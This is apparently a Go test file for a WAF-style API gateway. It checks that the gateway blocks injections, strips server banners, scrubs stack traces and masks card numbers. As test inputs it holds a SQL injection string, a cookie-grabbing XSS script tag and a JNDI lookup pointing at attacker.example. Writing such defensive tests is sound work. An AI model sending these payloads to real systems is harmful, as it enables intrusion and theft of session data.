package main

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
)

// TestServeWAFCatchall runs examples/waf-catchall.yaml as its comment
// says (UPSTREAM_URL=... apiguard serve --config examples/waf-catchall.yaml)
// in front of an API without a spec, and checks what the example
// promises: injections refused, security headers, scrubbed server errors,
// masked card numbers, clean traffic untouched.
func TestServeWAFCatchall(t *testing.T) {
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Server", "Werkzeug/3.0.1 Python/3.12")
		w.Header().Set("X-Powered-By", "Flask")
		switch r.URL.Path {
		case "/boom":
			w.WriteHeader(http.StatusInternalServerError)
			_, _ = io.WriteString(w, "Traceback (most recent call last):\n  File \"/srv/app/views.py\", line 42, in search\npsycopg2.errors.SyntaxError: syntax error at or near \"'\"\n")
		case "/card":
			w.Header().Set("Content-Type", "application/json")
			_, _ = io.WriteString(w, `{"holder":"Alice","card":"4111 1111 1111 1111"}`)
		default:
			w.Header().Set("Content-Type", "application/json")
			_, _ = io.WriteString(w, `{"path":"`+r.URL.Path+`","q":"`+r.URL.Query().Get("q")+`"}`)
		}
	}))
	defer upstream.Close()

	p := start(t, []string{"UPSTREAM_URL=" + upstream.URL, "APIGUARD_LISTEN=127.0.0.1:0", "APIGUARD_DATA_DIR=" + t.TempDir(), "APIGUARD_ADMIN_TOKEN="},
		"serve", "--config", filepath.Join("..", "..", "examples", "waf-catchall.yaml"), "--admin-listen", "off")
	base := "http://" + p.waitFor(t, `protecting 1 API\(s\) `+listenRE)

	get := func(target string, hdr ...string) (*http.Response, string) {
		t.Helper()
		req, err := http.NewRequest("GET", base+target, nil)
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i+1 < len(hdr); i += 2 {
			req.Header.Set(hdr[i], hdr[i+1])
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp, string(b)
	}
	refused := func(name string, resp *http.Response, body string, status int, rulePrefix string) {
		t.Helper()
		var prob map[string]any
		if resp.StatusCode != status || json.Unmarshal([]byte(body), &prob) != nil {
			t.Fatalf("%s = %d %s, want %d problem+json", name, resp.StatusCode, body, status)
		}
		if id, _ := prob["request_id"].(string); id == "" || resp.Header.Get("X-Request-Id") != id {
			t.Errorf("%s: problem request_id %v, X-Request-Id %q: want the same id in both", name, prob["request_id"], resp.Header.Get("X-Request-Id"))
		}
		if typ, _ := prob["type"].(string); !strings.Contains(typ, rulePrefix) {
			t.Errorf("%s: problem type %v, want one naming %s", name, prob["type"], rulePrefix)
		}
	}

	// Clean traffic passes, with security headers and without the
	// upstream's banners.
	resp, body := get("/v2/orders?q=blue+shoes", "Accept", "application/json")
	if resp.StatusCode != 200 || !strings.Contains(body, `"q":"blue shoes"`) {
		t.Fatalf("clean GET = %d %s, want the upstream's answer", resp.StatusCode, body)
	}
	if resp.Header.Get("X-Content-Type-Options") != "nosniff" || resp.Header.Get("Server") != "" || resp.Header.Get("X-Powered-By") != "" {
		t.Errorf("clean GET headers = %v, want nosniff and no Server / X-Powered-By", resp.Header)
	}

	// Injections anywhere in a request without a spec.
	resp, body = get("/search?q=%27%20OR%201%3D1--")
	refused("SQLi in the query", resp, body, http.StatusForbidden, "waf")
	resp, body = get("/comments?text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")
	refused("XSS in the query", resp, body, http.StatusForbidden, "waf")
	resp, body = get("/", "User-Agent", "${jndi:ldap://attacker.example/a}")
	refused("JNDI in a header", resp, body, http.StatusForbidden, "waf")

	// A server error reaches the client scrubbed.
	resp, body = get("/boom")
	if resp.StatusCode != 500 || strings.Contains(body, "Traceback") || strings.Contains(body, "psycopg2") || !strings.Contains(body, "request_id") {
		t.Errorf("upstream 500 = %d %s, want a problem+json without the trace", resp.StatusCode, body)
	}

	// A card number in an answer is masked.
	resp, body = get("/card")
	if resp.StatusCode != 200 || strings.Contains(body, "4111 1111 1111 1111") || !strings.Contains(body, "Alice") {
		t.Errorf("card answer = %d %s, want the card number masked", resp.StatusCode, body)
	}
	p.stop(t)
}
